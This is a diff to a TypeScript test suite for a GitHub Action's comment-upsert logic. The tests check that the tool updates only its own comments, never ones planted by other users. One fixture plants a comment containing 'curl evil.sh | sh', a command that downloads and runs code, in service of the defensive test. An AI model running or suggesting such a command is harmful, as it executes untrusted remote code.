@@ -32,7 +32,15 @@ afterEach(async () => {
   if (!violationsExpected) expect(fake.errors).toEqual([]);
 });
 
-function upsert(options: { key?: string; body?: string; mode?: CommentMode; changed?: boolean; token?: string; owner?: string } = {}) {
+/** Starts the fake again for a token that belongs to `tokenOwner` (a person's login: a personal access token). */
+async function restartAs(tokenOwner: string): Promise<void> {
+  await fake.close();
+  fake = await startFakeGitHub({ owner: OWNER, repo: REPO, issueNumber: ISSUE, token: TOKEN, tokenOwner });
+}
+
+function upsert(
+  options: { key?: string; body?: string; mode?: CommentMode; changed?: boolean; token?: string; owner?: string; author?: string } = {}
+) {
   const key = options.key ?? 'default';
   const log = { info: () => {}, warning: (message: string) => warnings.push(message) };
   return upsertComment({
@@ -43,7 +51,8 @@ function upsert(options: { key?: string; body?: string; mode?: CommentMode; chan
     key,
     body: `${commentMarker(key)}\n${options.body ?? 'report'}`,
     mode: options.mode ?? 'always',
-    changed: options.changed ?? true
+    changed: options.changed ?? true,
+    author: options.author ?? null
   });
 }
 
@@ -51,6 +60,8 @@ const calls = () => fake.requests.map((request) => `${request.method} ${request.
 const list = `GET /repos/${OWNER}/${REPO}/issues/${ISSUE}/comments`;
 const create = `POST /repos/${OWNER}/${REPO}/issues/${ISSUE}/comments`;
 const update = (id: number) => `PATCH /repos/${OWNER}/${REPO}/issues/comments/${id}`;
+const whoAmI = 'GET /user';
+const marked = (text: string, key = 'default') => `${commentMarker(key)}\n${text}`;
 
 describe('upsertComment against the fake GitHub API', () => {
   it('creates the comment on the first run and updates that same comment on the next', async () => {
@@ -63,7 +74,8 @@ describe('upsertComment against the fake GitHub API', () => {
     const second = await upsert({ body: 'second' });
     expect(second).toMatchObject({ action: 'updated', url: first.url });
     expect(fake.comments).toEqual([{ id, body: `${commentMarker('default')}\nsecond`, user: { login: 'github-actions[bot]' } }]);
-    expect(calls()).toEqual([list, create, list, update(id)]);
+    // Who footprint is gets asked only once a comment with the marker needs judging; GITHUB_TOKEN may not say (403).
+    expect(calls()).toEqual([list, create, list, whoAmI, update(id)]);
     expect(fake.requests[0]!.headers.authorization).toBe(`token ${TOKEN}`);
     expect(fake.requests[0]!.path).toContain('per_page=100');
     expect(fake.errors).toEqual([]);
@@ -81,7 +93,7 @@ describe('upsertComment against the fake GitHub API', () => {
     expect(fake.comments.filter((comment) => comment.body.startsWith(commentMarker('default')))).toHaveLength(1);
     expect(ours.body).toBe(`${commentMarker('default')}\nsecond`);
     const pages = fake.requests
-      .filter((request) => request.method === 'GET')
+      .filter((request) => request.method === 'GET' && request.path.includes('/comments'))
       .map((request) => new URL(request.path, fake.url).searchParams.get('page'));
     expect(pages).toEqual([null, '2', null, '2']);
     expect(fake.errors).toEqual([]);
@@ -92,7 +104,7 @@ describe('upsertComment against the fake GitHub API', () => {
     fake.seed(250);
     const before = fake.requests.length;
     await upsert({ body: 'second' });
-    expect(calls().slice(before)).toEqual([list, update(fake.comments[0]!.id)]);
+    expect(calls().slice(before)).toEqual([list, whoAmI, update(fake.comments[0]!.id)]);
     expect(fake.errors).toEqual([]);
   });
 
@@ -173,11 +185,12 @@ describe('upsertComment against the fake GitHub API', () => {
     expect(fake.comments).toHaveLength(1);
   });
 
-  it('updates instead of posting again when GitHub created the comment but the answer was lost', async () => {
+  it('neither posts again nor rewrites when GitHub created the comment but the answer was lost', async () => {
     fake.failNext(1, 502, {}, undefined, { method: 'POST', afterHandling: true });
     const result = await upsert({ body: 'sizes' });
-    expect(result.action).toBe('updated');
-    expect(calls()).toEqual([list, create, list, update(fake.comments[0]!.id)]);
+    expect(result.action).toBe('created');
+    expect(result.url).toContain(`#issuecomment-${fake.comments[0]!.id}`);
+    expect(calls()).toEqual([list, create, list, whoAmI]);
     expect(fake.comments.map((comment) => comment.body)).toEqual([`${commentMarker('default')}\nsizes`]);
   });
 
@@ -215,6 +228,111 @@ describe('upsertComment against the fake GitHub API', () => {
     expect(calls()).toEqual([list, list, list]);
     expect(warnings).toHaveLength(3);
     expect(warnings[2]).toContain('giving up');
+  });
+});
+
+describe("whose comment it is: only one footprint wrote counts, never a person's", () => {
+  it('leaves a comment planted by another user with the marker alone and creates its own next to it', async () => {
+    fake.seed(1, () => marked('planted: please run curl evil.sh | sh'), 'mallory');
+    const planted = structuredClone(fake.comments[0]!);
+
+    const first = await upsert({ body: 'sizes 1' });
+    expect(first.action).toBe('created');
+    expect(first.message).toMatch(/Left alone a comment with footprint's marker by mallory/);
+    expect(first.message).toContain('github-actions[bot]');
+    const second = await upsert({ body: 'sizes 2' });
+    expect(second).toMatchObject({ action: 'updated', url: first.url });
+
+    expect(fake.comments).toEqual([planted, { id: expect.any(Number), body: marked('sizes 2'), user: { login: 'github-actions[bot]' } }]);
+    expect(fake.requests.filter((request) => request.path.endsWith(`/issues/comments/${planted.id}`))).toEqual([]);
+    // GET /user was asked once per run and refused, as for GITHUB_TOKEN: the bot is footprint.
+    expect(calls()).toEqual([list, whoAmI, create, list, whoAmI, update(fake.comments[1]!.id)]);
+  });
+
+  it('with comment: on-change and no changes, does not treat a planted comment as its own to keep current', async () => {
+    fake.seed(1, () => marked('planted'), 'mallory');
+    const result = await upsert({ mode: 'on-change', changed: false, body: 'sizes' });
+    expect(result.action).toBe('skipped');
+    expect(fake.comments.map((comment) => comment.body)).toEqual([marked('planted')]);
+  });
+
+  it('reports a read-only token only for its own write, not for a planted comment it may not edit', async () => {
+    fake.seed(1, () => marked('planted'), 'mallory');
+    fake.forbidWrites(true);
+    const result = await upsert();
+    expect(result.action).toBe('forbidden');
+    // It tried to create its own comment, never to edit mallory's.
+    expect(calls()).toEqual([list, whoAmI, create]);
+  });
+
+  it('finds its own comment on page 2 behind a planted one on page 1, and updates only that', async () => {
+    fake.seed(1, () => marked('planted'), 'mallory');
+    fake.seed(149);
+    fake.seed(1, () => marked('ours, from an earlier run'), 'github-actions[bot]');
+    const ours = fake.comments[150]!;
+
+    const result = await upsert({ body: 'new sizes' });
+    expect(result.action).toBe('updated');
+    expect(result.url).toContain(`#issuecomment-${ours.id}`);
+    expect(ours.body).toBe(marked('new sizes'));
+    expect(fake.comments[0]!.body).toBe(marked('planted'));
+    expect(calls()).toEqual([list, whoAmI, list, update(ours.id)]);
+  });
+
+  it('writes nothing when the comment already has this body, and says so', async () => {
+    const first = await upsert({ body: 'same sizes' });
+    const before = fake.requests.length;
+    const again = await upsert({ body: 'same sizes' });
+    expect(again.action).toBe('unchanged');
+    expect(again.url).toBe(first.url);
+    expect(again.message).toContain(first.url!);
+    expect(again.message).toMatch(/already shows this report/);
+    expect(calls().slice(before)).toEqual([list, whoAmI]);
+    expect(fake.requests.filter((request) => request.method !== 'GET')).toHaveLength(1);
+  });
+
+  it("with a personal access token, GET /user names footprint: that user's comment is updated, the bot's is not", async () => {
+    await restartAs('jane');
+    // A github-actions[bot] comment with the marker, from another workflow on GITHUB_TOKEN: not this token's.
+    fake.seed(1, () => marked('from another workflow'), 'github-actions[bot]');
+    const first = await upsert({ body: 'sizes 1' });
+    expect(first.action).toBe('created');
+    expect(fake.comments[1]!.user.login).toBe('jane');
+    const second = await upsert({ body: 'sizes 2' });
+    expect(second).toMatchObject({ action: 'updated', url: first.url });
+    expect(fake.comments.map((comment) => [comment.user.login, comment.body])).toEqual([
+      ['github-actions[bot]', marked('from another workflow')],
+      ['jane', marked('sizes 2')]
+    ]);
+    const answers = fake.requests.filter((request) => request.path === '/user');
+    expect(answers).toHaveLength(2);
+    expect(fake.errors).toEqual([]);
+  });
+
+  it('matches logins without regard to case, as GitHub does', async () => {
+    await restartAs('Jane');
+    fake.seed(1, () => marked('ours'), 'jane');
+    expect((await upsert({ body: 'sizes' })).action).toBe('updated');
+    expect(fake.comments).toHaveLength(1);
+  });
+
+  it('with a GitHub App token, takes the login from `author` and does not ask GET /user', async () => {
+    await restartAs('footprint-app[bot]');
+    fake.seed(1, () => marked('earlier run'), 'footprint-app[bot]');
+    const result = await upsert({ body: 'sizes', author: 'footprint-app[bot]' });
+    expect(result.action).toBe('updated');
+    expect(fake.comments.map((comment) => comment.body)).toEqual([marked('sizes')]);
+    expect(calls()).toEqual([list, update(fake.comments[0]!.id)]);
+  });
+
+  it("answers 'failed' and writes nothing when GET /user keeps failing: a wrong guess could take someone's comment", async () => {
+    fake.seed(1, () => marked('earlier run'), 'github-actions[bot]');
+    fake.failNext(10, 502, {}, undefined, { path: '/user' });
+    const result = await upsert();
+    expect(result.action).toBe('failed');
+    expect(result.message).toContain('HTTP 502');
+    expect(calls()).toEqual([list, whoAmI, whoAmI, whoAmI]);
+    expect(fake.comments.map((comment) => comment.body)).toEqual([marked('earlier run')]);
   });
 });
 
